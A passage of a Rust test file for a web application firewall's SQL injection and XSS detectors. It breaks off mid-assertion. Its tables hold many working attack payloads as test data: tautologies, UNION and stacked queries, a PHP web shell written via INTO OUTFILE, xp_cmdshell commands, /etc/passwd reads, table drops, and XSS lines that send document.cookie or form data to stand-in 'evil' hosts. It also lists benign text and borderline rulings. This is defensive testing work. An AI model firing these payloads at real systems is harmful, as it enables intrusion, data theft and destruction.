//! The detectors against tables of attacks (each with the rule expected to
//! catch it) and of ordinary text that both must let through, the
//! borderline cases with the decision taken and why, and a deterministic
//! fuzz run for totality and bounded work.
//!
//! `cargo test -p edgewall-engine waf::detect -- --nocapture` prints the
//! detection and false-positive counts.

use super::html_lexer::{HtmlContext, HtmlLexer};
use super::sql_lexer::{Kind, Quote, Tokens, MAX_TOKENS};
use super::*;
use crate::testing::Rng;

use SqliReason as S;
use XssReason as X;

const SQLI_ATTACKS: &[(&str, SqliReason)] = &[
    // Tautologies and contradictions.
    ("' or 1=1--", S::ConstantCondition),
    ("1' OR '1'='1", S::ConstantCondition),
    ("1)) or ((1=1", S::ConstantCondition),
    ("1 and 1=2", S::ConstantCondition),
    ("1 or 1=1", S::ConstantCondition),
    ("1' and '1'='2", S::ConstantCondition),
    ("' or 'a'='a", S::ConstantCondition),
    ("\" or \"\"=\"", S::ConstantCondition),
    ("\" or 1=1--", S::ConstantCondition),
    ("') or ('1'='1", S::ConstantCondition),
    ("') or 1=1--", S::ConstantCondition),
    ("1' or 1=1 limit 1 -- -", S::ConstantCondition),
    ("admin' or '1'='1'--", S::ConstantCondition),
    ("admin' or 1=1#", S::ConstantCondition),
    ("' or 1--", S::ConstantCondition),
    ("' or true--", S::ConstantCondition),
    ("1 and 0x41=0x41", S::ConstantCondition),
    ("1 or 1 like 1", S::ConstantCondition),
    ("1 or 1 in (1)", S::ConstantCondition),
    ("1 and 1 between 0 and 2", S::ConstantCondition),
    ("1 || 1=1", S::ConstantCondition),
    ("1 && 2=2", S::ConstantCondition),
    ("1 && 'a'>'0'", S::ConstantCondition),
    ("1 or 'a'='a'", S::ConstantCondition),
    ("-1 or 1=1", S::ConstantCondition),
    ("1 or @@version like '5%'", S::ConstantCondition),
    ("1' AnD 1=1 AnD '1'='1", S::ConstantCondition),
    ("1'\nor\n1=1--", S::ConstantCondition),
    ("1'/**/or/**/1=1/**/--", S::ConstantCondition),
    ("'/**/OR/**/'1'='1", S::ConstantCondition),
    ("1 OR/**/1=1", S::ConstantCondition),
    ("1 and 1=1 union select 1", S::ConstantCondition),
    (
        "' and 1=0 union select null,table_name from information_schema.tables--",
        S::ConstantCondition,
    ),
    ("SELECT * FROM users WHERE id = 1 OR 1=1", S::ConstantCondition),
    (
        "1 AND 5650=CAST((CHR(113)||CHR(120)) AS NUMERIC)",
        S::ConstantCondition,
    ),
    ("1' AND 8312=8312 AND 'zzQD'='zzQD", S::ConstantCondition),
    ("1) AND 8312=8312 AND (1=1", S::ConstantCondition),
    ("x' AND 1=1 AND 'x'='x", S::ConstantCondition),
    ("' having 1=1--", S::ConstantCondition),
    ("' group by password having 1=1--", S::ConstantCondition),
    ("1 or 1 is not null", S::ConstantCondition),
    ("\\' or 1=1--", S::ConstantCondition),
    ("admin' or '1", S::ConstantCondition),
    ("'or'1'='1", S::ConstantCondition),
    ("1'or(1)=(1)#", S::ConstantCondition),
    ("1 or not 1=2", S::ConstantCondition),
    ("1\tor\x0b1=1", S::ConstantCondition),
    ("' or '{\"a\":1}'::jsonb @> '{}'", S::ConstantCondition),
    ("1 or '{\"a\":2}'->>'a' = '2'", S::ConstantCondition),
    ("' or json_extract('{\"a\":1}','$.a')=1--", S::FunctionAfterBreakout),
    ("x\" or \"2abc", S::ConstantCondition),
    // Conditions on columns, after a closed string or a number.
    ("' or username like '%admin%'--", S::InjectedCondition),
    ("' and password is not null--", S::InjectedCondition),
    ("1 or x=1", S::InjectedCondition),
    ("admin' and password like 'a%' and 'a'<'b", S::InjectedCondition),
    // Comments cutting the query short.
    ("admin'--", S::CommentAfterBreakout),
    ("admin' #", S::CommentAfterBreakout),
    ("admin'/*", S::CommentAfterBreakout),
    ("admin')--", S::CommentAfterBreakout),
    ("1)--", S::CommentAfterBreakout),
    ("\"--", S::CommentAfterBreakout),
    // UNION SELECT.
    ("1 union select null,version()--", S::UnionSelect),
    (
        "-1' union all select 1,2,group_concat(table_name) from information_schema.tables--",
        S::UnionSelect,
    ),
    ("1 UN/**/ION SEL/**/ECT 1,2,3--", S::UnionSelect),
    ("1 /*!50000union*/ /*!50000select*/ 1,2--", S::UnionSelect),
    ("1 /*!union*/ select user()", S::UnionSelect),
    ("1 UnIoN SeLeCt 1,2", S::UnionSelect),
    ("1\nunion\nselect\nnull", S::UnionSelect),
    ("' union select char(114,111,111,116)--", S::UnionSelect),
    (
        "' union select '<?php system($_GET[c]); ?>' into outfile '/tmp/x.php'#",
        S::UnionSelect,
    ),
    ("1 union all select username,password from users", S::UnionSelect),
    ("1 union (select 1,2)", S::UnionSelect),
    ("' union distinct select 1--", S::UnionSelect),
    ("1 intersect select 1", S::UnionSelect),
    ("1 UNION SELECT NULL--", S::UnionSelect),
    ("union select 1,2,3--", S::UnionSelect),
    ("1 union select * from users", S::UnionSelect),
    ("1e0union select 1", S::UnionSelect),
    ("\\Nunion select 1", S::UnionSelect),
    ("1 union/**/select 1", S::UnionSelect),
    ("' UNION SELECT NULL FROM DUAL--", S::UnionSelect),
    // Stacked queries.
    ("1;drop table users", S::StackedQuery),
    ("1; select pg_sleep(5)--", S::StackedQuery),
    ("1;shutdown--", S::StackedQuery),
    ("'; insert into users values('x','y')--", S::StackedQuery),
    (
        "'; update users set password='x' where user='admin'--",
        S::StackedQuery,
    ),
    ("'; delete from users--", S::StackedQuery),
    ("1; declare @x varchar(99)--", S::StackedQuery),
    ("1;select sleep(5)", S::StackedQuery),
    ("1'; drop table users; --", S::StackedQuery),
    ("'; truncate table logs--", S::StackedQuery),
    ("1; create user hacker identified by 'x'", S::StackedQuery),
    ("; shutdown with nowait--", S::StackedQuery),
    ("1;SELECT/**/1", S::StackedQuery),
    ("1; exec('select 1')", S::StackedQuery),
    // Time delays.
    ("' and sleep(5)#", S::TimeDelay),
    ("waitfor delay '0:0:5'", S::TimeDelay),
    ("1; waitfor delay '0:0:5'--", S::TimeDelay),
    ("1 and benchmark(5000000,md5(1))", S::TimeDelay),
    ("1 and pg_sleep(5)", S::TimeDelay),
    ("sleep(5)", S::TimeDelay),
    ("1-sleep(5)", S::TimeDelay),
    ("if(now()=sysdate(),sleep(5),0)", S::TimeDelay),
    ("1 and dbms_pipe.receive_message(('a'),10)=1", S::TimeDelay),
    ("1 or sleep(5)#", S::TimeDelay),
    ("1\"; waitfor delay '0:0:10'--", S::TimeDelay),
    ("1 waitfor delay '0:0:5'", S::TimeDelay),
    ("'||pg_sleep(10)||'", S::TimeDelay),
    ("1 and randomblob(1000000000)", S::TimeDelay),
    ("' AND 1=randomblob(500000000)--", S::TimeDelay),
    ("1 AND SLEEP(5) AND 1=1", S::TimeDelay),
    // Error-based and file probes.
    ("1 AND extractvalue(1,concat(0x7e,version()))", S::ProbeFunction),
    (
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        S::ProbeFunction,
    ),
    ("1 and updatexml(1,concat(0x7e,version()),1)", S::ProbeFunction),
    ("' and load_file('/etc/passwd')--", S::ProbeFunction),
    ("1' AND EXTRACTVALUE(1,CONCAT(0x5c,0x71))-- x", S::ProbeFunction),
    // Functions and system variables after a closed string.
    ("' and 1=char(49)--", S::FunctionAfterBreakout),
    ("1' and substring(version(),1,1)='5", S::FunctionAfterBreakout),
    ("'+convert(int,@@version)+'", S::FunctionAfterBreakout),
    ("0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z", S::TimeDelay),
    ("admin' and length(password)>8 and 'a'<'b", S::FunctionAfterBreakout),
    ("' || version() || '", S::FunctionAfterBreakout),
    ("' + @@version + '", S::FunctionAfterBreakout),
    // Subqueries.
    ("' || (select pg_sleep(5))--", S::Subquery),
    (
        "1 and ascii(substring((select password from users limit 1),1,1))>64",
        S::Subquery,
    ),
    ("1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", S::Subquery),
    (
        "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
        S::Subquery,
    ),
    ("' AND 1=CONVERT(int,(SELECT @@version))--", S::Subquery),
    (
        "1 and (select count(*) from information_schema.tables)>0",
        S::Subquery,
    ),
    ("1 and updatexml(1,concat(0x7e,(select user())),1)", S::Subquery),
    ("1) and (select 1)=1--", S::Subquery),
    (
        "1 and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))",
        S::Subquery,
    ),
    ("1 and 1=(select 1 from dual)", S::Subquery),
    ("' or exists(select 1)--", S::Subquery),
    (
        "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 1, 2)))",
        S::Subquery,
    ),
    // Column counting, files, system procedures, destruction.
    ("ORDER BY 10--", S::ColumnProbe),
    ("1 ORDER BY 10--", S::ColumnProbe),
    ("' order by 3#", S::ColumnProbe),
    ("1' group by 1--", S::ColumnProbe),
    ("1 order by 5", S::ColumnProbe),
    ("1' into outfile '/var/www/x.php'--", S::FileWrite),
    ("'; exec xp_cmdshell 'dir'--", S::SystemCommand),
    ("'; exec master..xp_cmdshell 'ping 10.0.0.1'--", S::SystemCommand),
    ("1 exec xp_cmdshell 'whoami'", S::SystemCommand),
    ("exec sp_configure 'show advanced options',1", S::SystemCommand),
    ("drop table users", S::DestructiveStatement),
    ("DROP TABLE users;--", S::DestructiveStatement),
];

/// Ordinary values: none may be taken for SQL injection or XSS.
/// Also read by `cmdi_tests.rs`: ordinary text no detector may flag.
pub(super) const BENIGN: &[&str] = &[
    // Names and apostrophes.
    "O'Reilly",
    "D'Angelo's pizza",
    "It's 5 o'clock",
    "rock 'n' roll",
    "rock'n'roll",
    "don't stop believin'",
    "Let's go",
    "I'm happy; you're sad",
    "can't won't shouldn't",
    "'Tis the season",
    "the '90s",
    "students' grades",
    "Jones' house",
    "O'Neil; O'Brien",
    "O'Reilly -- the publisher",
    "Bob's--great",
    "it's 'quoted' text",
    "name='Bob'",
    "a'b'c",
    "I'd like 1 or 2",
    "it's 1=1 simple",
    "' hello",
    // Words that are SQL keywords.
    "select the best option from the list",
    "select all that apply",
    "(Select all that apply)",
    "SELECT your size",
    "drop me a line",
    "drop-down menu",
    "drop table tennis class",
    "union of sets A and B",
    "Union Station",
    "Set union and intersection",
    "update your profile",
    "delete my account",
    "insert coin",
    "create a new account",
    "Order by phone or email",
    "order by 10",
    "table of contents",
    "exec summary",
    "execute order 66",
    "waitfor it",
    "wait for delay",
    "sleep well",
    "I need sleep (8 hours)",
    "benchmark results",
    "version 2.0",
    "char",
    "null",
    "NULL",
    "SELECT",
    "SELECT * FROM",
    "SELECT * FROM users WHERE id = 1",
    "how do I write SELECT * FROM users WHERE id = 1 in postgres?",
    "AND/OR logic",
    "this or that",
    "either 1 or 2",
    "1 or 2",
    "1 and 2",
    "yes or no",
    "true or false",
    "Tom & Jerry",
    "Tom && Jerry",
    "salt and pepper",
    // Numbers, maths, prices, dates, versions, identifiers.
    "1+1=2",
    "1-1",
    "3 * 4 = 12",
    "x > 5",
    "x = y + z",
    "f(x) = 2x + 1",
    "a<b and c>d",
    "x >= 5 && y <= 10",
    "$5 - $10",
    "price: $10.99",
    "50% off",
    "100% natural",
    "2024-01-01",
    "2024-01-01T12:34:56Z",
    "1.2.3-beta",
    "123e4567-e89b-12d3-a456-426614174000",
    "Page 1 of 10",
    "1 -- 2",
    "ORDER-123",
    "item #42",
    "#1 best seller",
    "phone: +1 (555) 123-4567",
    "(555) 123-4567",
    "width=100%",
    "ratio 16:9",
    "time: 10:30",
    // Addresses, URLs, tokens.
    "john.doe@example.com",
    "first.last+tag@sub.example.co.uk",
    "user@host",
    "https://example.com/path?x=1#frag",
    "http://example.com/?q=javascript",
    "/search?q=select+from&page=2",
    "a=1&b=2",
    "key=value; other=thing",
    "C:\\Windows\\System32",
    "SGVsbG8gV29ybGQh",
    "aGVsbG8gd29ybGQ=",
    "ab--cd",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    // Markup that runs nothing.
    "<b>bold</b>",
    "<p>hello</p>",
    "<i>it</i> and <em>this</em> and <strong>that</strong>",
    "line<br>break<br/>rule<hr>",
    "<ul><li>a</li><li>b</li></ul>",
    "<table><tr><td>1</td></tr></table>",
    "<a href=\"https://example.com\">link</a>",
    "<a href=\"/path?x=1&y=2\">next</a>",
    "<a href=\"mailto:me@example.com\">mail</a>",
    "<a href=\"tel:+15551234567\">call</a>",
    "<a href=\"#top\">Top</a>",
    "\"#1\" hit",
    "He said \"--\" is a dash",
    "'#1' and '#2'",
    "<img src=\"cat.png\" alt=\"a cat\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<img srcset=\"a.png 1x, b.png 2x\">",
    "<p style=\"color: red\">red</p>",
    "<span class=\"x\" title=\"a<b\">t</span>",
    "<div id=main data-x=1>",
    "<div title=\"click me\" data-on=\"1\">",
    "<img src=\"x.png\" onload-hint=\"lazy\">",
    "<a title=\"x\" once=1>",
    "<code>a &lt; b</code>",
    "<option value=\"1\" selected>One</option>",
    "<input type=\"text\" name=\"q\" value=\"search\">",
    "<label for=\"x\">Name</label>",
    "<!-- comment -->",
    "<!DOCTYPE html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;",
    "AT&T",
    "Q&A and R&D",
    "fish & chips",
    // Markdown, JSON, code.
    "**bold** _italic_ [link](https://example.com) ![img](a.png)",
    "# Heading\n\n- item\n- item",
    "{\"name\":\"O'Reilly\",\"tags\":[\"a\",\"b\"]}",
    "{\"html\":\"<b>x</b>\"}",
    "if (a < b && c > d) { return x; }",
    "for (i=0;i<n;i++)",
    "Vector<String>",
    "std::vector<int> v;",
    "List<Map<String, Integer>>",
    "a => b",
    "5 < 6 > 4",
    "x<y",
    "color: red; background: url(/x.png)",
    "font: 12px/1.5 \"Helvetica\"",
    "style=\"color:red\"",
    // Text that mentions scripts and handlers.
    "javascript",
    "JavaScript: The Good Parts",
    "JavaScript: The Good Parts (2008)",
    "I love javascript: it's fun",
    "data: 5 rows affected",
    "note: this is fine",
    "regular expression(s)",
    "use onclick to handle clicks",
    "one=1 two=2",
    "once upon a time",
    "only=true online=yes",
    "on=off",
    "onion rings",
    "The \"quoted\" word",
    "He said \"on\" and \"off\"",
    "say \"hi\" on Monday",
    "'single' quotes",
    "\"exact phrase\" -excluded",
    // Odd punctuation.
    "--verbose",
    "#hashtag",
    "/* note */",
    "Regards,\n-- \nJohn",
    "<3",
    "I <3 you",
    "<3 you & me",
    "<- arrow",
    "-->",
    "Hello, world!",
    "nested (parens (here))",
    // Found by scanning prose, markdown and code for false positives.
    "fn frames() -> Option<NonNull<Frame>>",
    "Result<Vec<Object>, Error>",
    "parse_meta(path) -> Result<Meta>",
    "Original Author,\" or \"Screenplay based on original Work by Original",
    "software\" and \"commercial computer software documentation,\" as such",
    "        \"or\",",
    "        }\"#;",
    "thread::sleep(Duration::from_millis(2000));",
    "SELECT id::text FROM t",
    // Other scripts.
    "你好，世界",
    "مرحبا بالعالم",
    "Привет, мир",
    "こんにちは 'テスト'",
    "🎉🚀 emoji ❤️",
    "",
];

const XSS_ATTACKS: &[(&str, XssReason)] = &[
    // Dangerous tags.
    ("<script>alert(1)</script>", X::DangerousTag),
    ("\"><script>alert(1)</script>", X::DangerousTag),
    ("<ScRiPt>alert(1)</sCrIpT>", X::DangerousTag),
    ("<scr<script>ipt>alert(1)</script>", X::DangerousTag),
    (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        X::DangerousTag,
    ),
    ("<embed src=x.swf>", X::DangerousTag),
    ("<base href=\"https://evil.example/\">", X::DangerousTag),
    ("<style>@import'javascript:alert(1)';</style>", X::DangerousTag),
    (
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        X::DangerousTag,
    ),
    ("<link rel=stylesheet href=//evil/x.css>", X::DangerousTag),
    (
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        X::DangerousTag,
    ),
    (
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a>",
        X::DangerousTag,
    ),
    ("</title><script>alert(1)</script>", X::DangerousTag),
    ("</textarea><script>alert(1)</script>", X::DangerousTag),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        X::DangerousTag,
    ),
    ("<script src=//evil.example/x.js>", X::DangerousTag),
    ("<script/src=data:,alert(1)>", X::DangerousTag),
    ("<iframe src=//evil.example>", X::DangerousTag),
    ("<form><button formaction=javascript:alert(1)>X", X::ScriptUrl),
    ("<svg><script>alert(1)</script></svg>", X::DangerousTag),
    ("<<script>alert(1)//<</script>", X::DangerousTag),
    ("<object data=x.swf type=application/x-shockwave-flash>", X::DangerousTag),
    ("<form action=//evil.example/steal>", X::DangerousTag),
    ("<embed type=image/svg+xml src=//evil/x.svg>", X::DangerousTag),
    ("<iframe src=//evil.example/>", X::DangerousTag),
    ("<svg><animate onbegin=alert(1) attributeName=x>", X::DangerousTag),
    ("<math><mtext><table><mglyph><style>", X::DangerousTag),
    ("<style>@import 'https://evil.example/x.css';</style>", X::DangerousTag),
    ("<style>input[value^=a]{background:url(//evil.example/a)}</style>", X::DangerousTag),
    ("<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>", X::DangerousTag),
    ("<applet code=x.class>", X::DangerousTag),
    ("<frameset><frame src=//evil>", X::DangerousTag),
    // Event handlers.
    ("<img src=x onerror=alert(1)>", X::EventHandler),
    ("<svg/onload=alert(1)>", X::EventHandler),
    ("<body onload=alert(1)>", X::EventHandler),
    ("' onmouseover='alert(1)", X::EventHandler),
    ("<details open ontoggle=alert(1)>", X::EventHandler),
    ("<x onclick=alert(1)>click", X::EventHandler),
    ("<IMG SRC=X ONERROR=ALERT(1)>", X::EventHandler),
    ("<!--><img src=x onerror=alert(1)>-->", X::EventHandler),
    ("<video><source onerror=alert(1)>", X::EventHandler),
    ("<audio src=x onerror=alert(1)>", X::EventHandler),
    ("<input autofocus onfocus=alert(1)>", X::EventHandler),
    ("<select onfocus=alert(1) autofocus>", X::EventHandler),
    ("<textarea autofocus onfocus=alert(1)>", X::EventHandler),
    ("<marquee onstart=alert(1)>", X::EventHandler),
    ("<keygen autofocus onfocus=alert(1)>", X::EventHandler),
    ("\"onmouseover=\"alert(1)", X::EventHandler),
    ("\" autofocus onfocus=\"alert(1)", X::EventHandler),
    ("x onmouseover=alert(1)", X::EventHandler),
    ("' autofocus onfocus=alert(1) x='", X::EventHandler),
    ("\"><img src=x onerror=alert(document.cookie)>", X::EventHandler),
    ("'><svg onload=alert(1)>", X::EventHandler),
    (
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        X::EventHandler,
    ),
    ("<img src=\"x\" onerror=\"&#97;lert(1)\">", X::EventHandler),
    ("<img/src=\"x\"/onerror=alert(1)>", X::EventHandler),
    ("<svg onload=alert&#40;1&#41;>", X::EventHandler),
    ("<body onpageshow=alert(1)>", X::EventHandler),
    ("<img src=1 onerror=alert(1)//", X::EventHandler),
    ("<frameset onload=alert(1)>", X::EventHandler),
    ("<xss onclick=alert(1)>", X::EventHandler),
    ("<custom-element onpointerenter=alert(1)>", X::EventHandler),
    ("<p onmouseover=\"alert(1)\">hover</p>", X::EventHandler),
    ("<b onclick=alert(1)>bold</b>", X::EventHandler),
    ("<img src=x oNeRrOr=alert(1)>", X::EventHandler),
    ("<img src=x onerror\n=alert(1)>", X::EventHandler),
    ("<img\tsrc=x\tonerror=alert(1)>", X::EventHandler),
    ("'\"><img src=x onerror=prompt(1)>", X::EventHandler),
    ("<img src=x:alert(alt) onerror=eval(src) alt=0>", X::EventHandler),
    ("<div onfuturevent=alert(1)>", X::EventHandler),
    (
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        X::EventHandler,
    ),
    // Script URLs.
    ("<iframe src=\"javascript:alert(1)\">", X::ScriptUrl),
    ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", X::ScriptUrl),
    ("javascript:alert(1)", X::ScriptUrl),
    (
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        X::ScriptUrl,
    ),
    ("<form action=javascript:alert(1)><input type=submit>", X::ScriptUrl),
    ("<a href=\"javascript&colon;alert(1)\">", X::ScriptUrl),
    (
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
        X::ScriptUrl,
    ),
    ("<a href=\"&#x6A;avascript:alert(1)\">", X::ScriptUrl),
    ("<a href=\"javascript&#0058;alert(1)\">", X::ScriptUrl),
    ("<a href=\"&#x20;javascript:alert(1)\">", X::ScriptUrl),
    ("<a href=\"java&NewLine;script&colon;alert(1)\">", X::ScriptUrl),
    ("<a href=javas&#99;ript:alert(1)>", X::ScriptUrl),
    ("<a href=\" javascript:alert(1)\">", X::ScriptUrl),
    ("<a href=\"java\nscript:alert(1)\">", X::ScriptUrl),
    ("<a href='vbscript:msgbox(1)'>", X::ScriptUrl),
    (
        "<a href=\"data:text/html,<script>alert(1)</script>\">",
        X::ScriptUrl,
    ),
    ("<isindex action=javascript:alert(1) type=submit>", X::ScriptUrl),
    ("<object data=javascript:alert(1)>", X::ScriptUrl),
    ("<embed src=\"javascript:alert(1)\">", X::ScriptUrl),
    ("<button formaction=javascript:alert(1)>X", X::ScriptUrl),
    ("<a href=javascript:alert(1)>x", X::ScriptUrl),
    ("<A HREF=\"JAVASCRIPT:ALERT(1)\">", X::ScriptUrl),
    ("<math href=\"javascript:alert(1)\">CLICK", X::ScriptUrl),
    ("<a href=\"javascript:void(0)\" onclick=\"steal()\">", X::ScriptUrl),
    ("<table background=\"javascript:alert(1)\">", X::ScriptUrl),
    ("<input type=\"image\" src=\"javascript:alert(1)\">", X::ScriptUrl),
    (
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        X::ScriptUrl,
    ),
    ("vbscript:msgbox(\"XSS\")", X::ScriptUrl),
    ("javascript:alert`1`", X::ScriptUrl),
    ("  javascript:document.location='//evil/?'+document.cookie", X::ScriptUrl),
    // CSS.
    ("<div style=\"width: expression(alert(1))\">", X::StyleScript),
    ("x:expression(alert(1))", X::StyleScript),
    ("<div style=\"background:url('javascript:alert(1)')\">", X::StyleScript),
    ("<div style=\"behavior: url(xss.htc)\">", X::StyleScript),
    (
        "<div style=\"-moz-binding:url(http://evil/xss.xml#x)\">",
        X::StyleScript,
    ),
    ("<div style=\"x:exp/**/ression(alert(1))\">", X::StyleScript),
    ("color:red;x:\\65 xpression(alert(1))", X::StyleScript),
    // The rest.
    (
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        X::MarkupInSrcdoc,
    ),
    (
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        X::ConditionalMarkup,
    ),
    (
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        X::ConditionalMarkup,
    ),
];

/// Cases where reasonable people differ: the decision, and why.
struct Borderline {
    detector: Detector,
    input: &'static str,
    flagged: bool,
    why: &'static str,
}

const BORDERLINE: &[Borderline] = &[
    Borderline {
        detector: Detector::Sqli,
        input: "how do I write SELECT * FROM users WHERE id = 1 in postgres?",
        flagged: false,
        why: "prose that mentions SQL does not parse as an injected value: `how do` stops it",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "SELECT * FROM users WHERE id = 1",
        flagged: false,
        why: "a statement on its own escapes nothing and adds no condition",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "5 > 3 and 2 < 4",
        flagged: true,
        why: "a condition on constants after a number is exactly a boolean-blind probe",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "5 > 3 && 2 < 4",
        flagged: false,
        why: "orderings joined by && or || and nothing else SQL (no quote, no =, no keyword) is \
              arithmetic from a calculator or a code snippet; the price is `1 && 2>1`",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "1 || 2>1",
        flagged: false,
        why: "the same shape as `5 > 3 && 2 < 4`: let through, and caught once it uses `=`, \
              a keyword (`1 or 2>1`) or a quote",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "1 or 1",
        flagged: false,
        why: "a bare truthy constant, with the query neither cut nor closed, is too weak",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "1 or 1--",
        flagged: true,
        why: "the same with the rest of the query commented out",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "admin' or 'x",
        flagged: false,
        why: "'x' is false to MySQL: the condition adds nothing (`' or '1` is flagged)",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "admin'#x",
        flagged: false,
        why: "`#` glued to a word is a hashtag or code more often than a truncation (`admin'#` is flagged)",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "union select committee",
        flagged: false,
        why: "a select list of one bare word reads as prose; payloads use literals, calls, commas or FROM",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "order by 10",
        flagged: false,
        why: "column counting needs a value before it or a comment after it",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "drop table users",
        flagged: true,
        why: "a complete destructive statement has no ordinary use as a value",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "x'--",
        flagged: true,
        why: "a closed string then a comment is `admin'--`, whatever the name",
    },
    Borderline {
        detector: Detector::Sqli,
        input: "benchmark(s)",
        flagged: false,
        why: "BENCHMARK needs two arguments to delay anything",
    },
    Borderline {
        detector: Detector::Xss,
        input: "<form>",
        flagged: false,
        why: "a form without attributes submits to the page itself (`<form action=…>` is flagged)",
    },
    Borderline {
        detector: Detector::Xss,
        input: "<embed>",
        flagged: false,
        why: "an embed without attributes loads nothing (`<embed src=…>` is flagged)",
    },
    Borderline {
        detector: Detector::Xss,
        input: "<svg>",
        flagged: false,
        why: "foreign content changes how what follows parses (mutation XSS), but bare, with \
              nothing after it, it is a question about HTML; any markup after it is flagged",
    },
    Borderline {
        detector: Detector::Xss,
        input: "what is a <noscript> tag",
        flagged: false,
        why: "a bare raw-text container in prose does nothing",
    },
    Borderline {
        detector: Detector::Xss,
        input: "<textarea><img src=x onerror=alert(1)></textarea>",
        flagged: true,
        why: "no raw-text states: the payload would run wherever the value is not inside a textarea",
    },
    Borderline {
        detector: Detector::Xss,
        input: "javascript: alert(1)",
        flagged: true,
        why: "a bare value that is a script URL with a call in it",
    },
    Borderline {
        detector: Detector::Xss,
        input: "x onclick=foo()",
        flagged: true,
        why: "in an unquoted attribute this adds a handler",
    },
    Borderline {
        detector: Detector::Xss,
        input: "Set the form's onsubmit=handler",
        flagged: true,
        why: "inside '…' the apostrophe closes the value and onsubmit= is a handler",
    },
    Borderline {
        detector: Detector::Xss,
        input: "use onclick to handle clicks",
        flagged: false,
        why: "an attribute without a value runs nothing",
    },
    Borderline {
        detector: Detector::Xss,
        input: "<img src=x/onerror=alert(1)>",
        flagged: false,
        why: "browsers read `x/onerror=alert(1)` as the unquoted src value",
    },
];

#[test]
fn sqli_attacks_are_detected_by_the_expected_rule() {
    let mut failed = Vec::new();
    for &(input, want) in SQLI_ATTACKS {
        match is_sqli(input.as_bytes()) {
            Some(m) if m.reason == want => {}
            Some(m) => failed.push(format!("{input:?}: want {want:?}, got {m}")),
            None => failed.push(format!("{input:?}: want {want:?}, not detected")),
        }
    }
    report("sqli attacks", SQLI_ATTACKS.len(), &failed);
}

#[test]
fn xss_attacks_are_detected_by_the_expected_rule() {
    let mut failed = Vec::new();
    for &(input, want) in XSS_ATTACKS {
        match is_xss(input.as_bytes()) {
            Some(m) if m.reason == want => {}
            Some(m) => failed.push(format!("{input:?}: want {want:?}, got {m}")),
            None => failed.push(format!("{input:?}: want {want:?}, not detected")),
        }
    }
    report("xss attacks", XSS_ATTACKS.len(), &failed);
}

#[test]
fn ordinary_text_is_neither_sqli_nor_xss() {
    let mut failed = Vec::new();
    for input in BENIGN {
        for detector in [Detector::Sqli, Detector::Xss] {
            if let Some(d) = detector.detect(input.as_bytes()) {
                failed.push(format!("{input:?}: {d}"));
            }
        }
    }
    report("benign inputs x 2 detectors", BENIGN.len() * 2, &failed);
}

#[test]
fn borderline_cases_are_decided_as_documented() {
    let mut failed = Vec::new();
    for case in BORDERLINE {
        let got = case.detector.detect(case.input.as_bytes());
        if got.is_some() != case.flagged {
            failed.push(format!(
                "{} {:?}: want flagged={} ({}), got {:?}",
                case.detector.name(),
                case.input,
                case.flagged,
                case.why,
                got.map(|d| d.to_string())
            ));
        }
    }
    report("borderline", BORDERLINE.len(), &failed);
}

/// Every failure at once, with counts; fails when nothing ran.
fn report(what: &str, total: usize, failed: &[String]) {
    println!("{what}: {}/{total} as expected", total - failed.len());
    assert!(total > 0, "{what}: no cases ran");
    assert!(
        failed.is_empty(),
        "{what}: {} of {total} failed:\n{}",
        failed.len(),
        failed.join("\n")
    );
}

#[test]
fn the_tables_are_large_enough_to_mean_something() {
    assert!(SQLI_ATTACKS.len() >= 80, "{}", SQLI_ATTACKS.len());
    assert!(XSS_ATTACKS.len() >= 80, "{}", XSS_ATTACKS.len());
    assert!(BENIGN.len() >= 160, "{}", BENIGN.len());
}

#[test]
fn matches_explain_themselves_for_the_log() {
    let sqli = |s: &str| is_sqli(s.as_bytes()).map(|m| m.to_string());
    let xss = |s: &str| is_xss(s.as_bytes()).map(|m| m.to_string());
    assert_eq!(
        sqli("' or 1=1--").as_deref(),
        Some("sql injection: condition on constants (in '…', fingerprint s&1o1c)")
    );
    assert_eq!(
        sqli("1 union select null,version()--").as_deref(),
        Some("sql injection: union select (as-is, fingerprint 1UEk,)")
    );
    assert_eq!(
        sqli("\\' or 1=1--").as_deref(),
